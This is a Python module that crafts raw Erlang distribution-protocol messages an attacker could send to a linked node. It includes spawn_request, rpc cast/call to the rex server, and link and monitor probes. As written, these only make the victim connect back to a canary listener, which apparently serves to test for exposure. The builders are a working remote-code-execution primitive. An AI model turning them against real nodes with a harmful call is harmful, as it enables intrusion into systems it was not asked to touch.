"""What an attacker says once it believes itself linked: control messages of the distribution protocol, in
bytes.

Formats: "External Term Format" and "Distribution Protocol" of OTP's ERTS guide. Without an atom cache a
message is pass-through: $p, the control term, the message. Nothing here is random, so a failure can be
repeated.
"""

from __future__ import annotations

import ipaddress
import struct
from collections.abc import Sequence
from dataclasses import dataclass

PASS_THROUGH = 112
VERSION = b"\x83"

LINK, REG_SEND, EXIT, MONITOR_P, MONITOR_P_EXIT = 1, 6, 3, 19, 21
PAYLOAD_EXIT, PAYLOAD_MONITOR_P_EXIT, SPAWN_REQUEST = 24, 28, 29

ANSWERS = frozenset({EXIT, PAYLOAD_EXIT, MONITOR_P_EXIT, PAYLOAD_MONITOR_P_EXIT})
"""What a node says to a link to, or a monitor of, a process that does not exist: that it has run our
signal.
"""


def atom(name: str | bytes) -> bytes:
    """SMALL_ATOM_UTF8_EXT or ATOM_UTF8_EXT; bytes are taken as they are, valid UTF-8 or not."""
    raw = name if isinstance(name, bytes) else name.encode()
    return (
        struct.pack(">BB", 119, len(raw)) + raw if len(raw) < 256 else struct.pack(">BH", 118, len(raw)) + raw
    )


def integer(value: int) -> bytes:
    return struct.pack(">BB", 97, value) if 0 <= value < 256 else struct.pack(">Bi", 98, value)


def sequence(elements: Sequence[bytes]) -> bytes:
    """A proper list."""
    return struct.pack(">BI", 108, len(elements)) + b"".join(elements) + b"\x6a" if elements else b"\x6a"


def tuple_of(*elements: bytes) -> bytes:
    return struct.pack(">BB", 104, len(elements)) + b"".join(elements)


def pid(node: str | bytes, creation: int, number: int = 100) -> bytes:
    """NEW_PID_EXT."""
    return b"\x58" + atom(node) + struct.pack(">III", number, 0, creation)


def reference(node: str | bytes, creation: int) -> bytes:
    """NEWER_REFERENCE_EXT of three words."""
    return struct.pack(">BH", 90, 3) + atom(node) + struct.pack(">IIII", creation, 1, 2, 3)


def message(control: bytes, content: bytes | None = None) -> bytes:
    """One frame's content, without its length."""
    return bytes([PASS_THROUGH]) + VERSION + control + (VERSION + content if content is not None else b"")


def operation(frame: bytes) -> int | None:
    """The number of a received control message; None for a tick and whatever else it may be."""
    if len(frame) > 5 and frame[0] == PASS_THROUGH and frame[2] == 104 and frame[4] == 97:
        return frame[5]
    return None


@dataclass(frozen=True, slots=True)
class Speaker:
    """Who speaks, to whom, and where the canary listens that the victim is to call."""

    own: str | bytes
    own_creation: int
    victim: str
    victim_creation: int
    canary: tuple[str, int]

    def _call(self) -> tuple[bytes, bytes, bytes]:
        """Module, function, arguments: gen_tcp:connect/3 to the canary, IPv4 or IPv6."""
        host, port = self.canary
        parts = [int(part) for part in host.split(".")] if "." in host else _groups(host)
        address = tuple_of(*(integer(part) for part in parts))
        family = [] if "." in host else [atom("inet6")]
        return atom("gen_tcp"), atom("connect"), sequence([address, integer(port), sequence(family)])

    def _me(self) -> bytes:
        return pid(self.own, self.own_creation)

    def _nobody(self) -> bytes:
        return pid(self.victim, self.victim_creation, 0x7FFE)

    def _send(self, name: str, content: bytes) -> bytes:
        return message(tuple_of(integer(REG_SEND), self._me(), atom(""), atom(name)), content)

    def cast(self) -> bytes:
        """rpc:cast/4."""
        return self._send(
            "rex", tuple_of(atom("$gen_cast"), tuple_of(atom("cast"), *self._call(), self._me()))
        )

    def send(self) -> bytes:
        """A request to a registered process, which answers it by calling what it is told: rpc's server."""
        from_ = tuple_of(self._me(), reference(self.own, self.own_creation))
        return self._send(
            "rex", tuple_of(atom("$gen_call"), from_, tuple_of(atom("call"), *self._call(), self._me()))
        )

    def spawn(self) -> bytes:
        """erlang:spawn/4."""
        module, function, arguments = self._call()
        request = reference(self.own, self.own_creation)
        what = tuple_of(module, function, integer(3))
        control = tuple_of(integer(SPAWN_REQUEST), request, self._me(), self._me(), what, sequence([]))
        return message(control, arguments)

    def link(self) -> bytes:
        """link/1 to a process that does not exist: whoever runs it answers."""
        return message(tuple_of(integer(LINK), self._me(), self._nobody()))

    def monitor(self) -> bytes:
        """monitor/2 of a process that does not exist: whoever runs it answers."""
        nobody, ours = self._nobody(), reference(self.own, self.own_creation)
        return message(tuple_of(integer(MONITOR_P), self._me(), nobody, ours))

    def everything(self) -> list[bytes]:
        return [self.spawn(), self.cast(), self.send(), self.monitor(), self.link()]


def _groups(host: str) -> list[int]:
    """The eight groups of an IPv6 address."""
    return list(struct.unpack(">8H", ipaddress.IPv6Address(host).packed))
